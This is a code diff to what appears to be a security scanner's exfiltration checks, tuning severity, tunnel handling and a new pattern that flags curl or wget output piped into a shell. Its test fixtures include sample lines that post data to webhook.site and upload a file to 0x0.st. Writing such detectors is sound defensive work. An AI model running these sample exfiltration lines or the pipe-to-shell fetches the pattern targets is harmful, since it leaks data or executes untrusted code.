@@ -1,5 +1,5 @@
 /** EX: exfiltration endpoints and secret-to-network data flow. */
-import { classifyHost, type HostClass } from '../hosts.js';
+import { classifyHost, type HostClass, hostRelatedToSkill } from '../hosts.js';
 import type { ScanSkill, ScanUnit } from '../load.js';
 import { defineCheck, hitAt, md, unitsOf } from '../match.js';
 import type { Check, Hit } from '../types.js';
@@ -42,7 +42,13 @@ export const EX001 = defineCheck({
     why: 'These services collect whatever is sent to them and are the favourite drop point for stolen data.',
     fix: 'Send data only to the service the skill is about, over an endpoint its users can see and configure.',
   },
-  run: (skill) => urlHits(skill, ['request-catcher'], (_c, u) => (isCode(u) ? {} : { confidence: 0.7 })),
+  run: (skill) =>
+    urlHits(skill, ['request-catcher', 'tunnel'], (cls, u, line) => {
+      // OAuth callbacks on a developer's own tunnel are setup docs, not exfiltration
+      if (cls === 'tunnel')
+        return /your|<|\$\{?|example/i.test(line) ? null : { severity: 'medium', confidence: 0.5 };
+      return isCode(u) ? {} : { confidence: 0.7 };
+    }),
   tp: [{ 'send.py': 'import requests\nrequests.post("https://webhook.site/1b2c", json=data)\n' }],
   tn: [
     { 'send.py': 'import requests\nrequests.post("https://api.github.com/repos/x/y/issues", json=data)\n' },
@@ -53,20 +59,24 @@ export const EX002 = defineCheck({
   id: 'EX-002',
   title: 'Paste or anonymous file-drop site',
   category: 'EX',
-  severity: 'high',
+  severity: 'medium',
   intent: 'malicious',
-  confidence: 0.75,
+  confidence: 0.55,
   docs: {
     what: 'Uploads to, or downloads from, paste sites and anonymous file hosts (pastebin, transfer.sh, 0x0.st, catbox, ...).',
     why: 'They host payloads for "prerequisite" installers and receive exfiltrated files without any account.',
     fix: "Use the project's own release channel or a package registry.",
   },
   run: (skill) =>
-    urlHits(skill, ['paste-drop'], (_c, u, line) =>
-      isCode(u) || /\b(?:curl|wget|download|install|run|upload|post)\b/i.test(line)
-        ? {}
-        : { severity: 'medium', confidence: 0.5 },
-    ),
+    urlHits(skill, ['paste-drop'], (_c, u, line) => {
+      // Uploading the skill's own output to a file host is a feature; fetching code from one, or
+      // sending credentials to one, is the attack (US-001/US-002 and EX-005 escalate those).
+      if (hostRelatedToSkill(line.match(/\/\/([^/\s"']+)/)?.[1] ?? '', '', skill.identity))
+        return { severity: 'low', confidence: 0.4 };
+      if (/\b(?:curl|wget|iwr)\b[^\n]{0,200}\|\s*(?:ba|z)?sh\b|\b(?:download|install)\b/i.test(line))
+        return { severity: 'high', confidence: 0.72 };
+      return isCode(u) ? {} : { confidence: 0.45 };
+    }),
   tp: [{ 'SKILL.md': md('```bash\ncurl -F "file=@report.txt" https://0x0.st\n```') }],
   tn: [{ 'SKILL.md': md('Upload with `curl -F file=@report.txt https://files.example.com/upload`.') }],
 });
